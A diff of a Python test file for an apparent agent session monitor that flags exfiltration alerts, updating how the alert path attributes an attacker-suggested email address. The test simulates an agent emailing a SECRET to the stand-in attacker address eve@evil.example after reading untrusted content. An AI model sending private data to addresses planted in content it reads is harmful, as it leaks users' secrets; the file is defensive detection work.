@@ -426,7 +426,8 @@ def test_the_session_is_said_raised_by_the_first_call_to_reach_its_level() -> No
 
 
 def test_alert_paths_name_the_calls_that_brought_the_legs_and_only_the_private_sources() -> None:
-    """The armed alert's path holds the private call; the exfiltration path skips where the address came from."""
+    """The armed alert's path holds the private call; the exfiltration path names where the address came from as
+    its untrusted step (not the channel read that first brought untrusted content), and only the file as private."""
     m = SessionMonitor(builtin_rules=False, policy=Policy(conversation_is_private=False))
     m.register_tools("s", "app", TOOLS, trusted=True)
     m.observe_user_message("s", "Summarise my notes and the channels")
@@ -438,7 +439,9 @@ def test_alert_paths_name_the_calls_that_brought_the_legs_and_only_the_private_s
     d = run(m, "c4", "send_email", {"to": "eve@evil.example", "body": SECRET})
     assert destinations(d) == [("c3", "eve@evil.example at /to: attacker-suggested")]
     [exfiltration] = alerts(m, AlertKind.EXFILTRATION)
-    assert exfiltration.path == ("c2", "r1", "c4")
+    assert exfiltration.path == ("c3", "r1", "c4")
+    roles = [(step.call_id, step.role.value) for step in exfiltration.steps]
+    assert roles == [("r1", "private-source"), ("c3", "untrusted-source"), ("c4", "sink")]
 
 
 def test_a_hijack_without_private_data_has_a_path_of_real_calls() -> None:
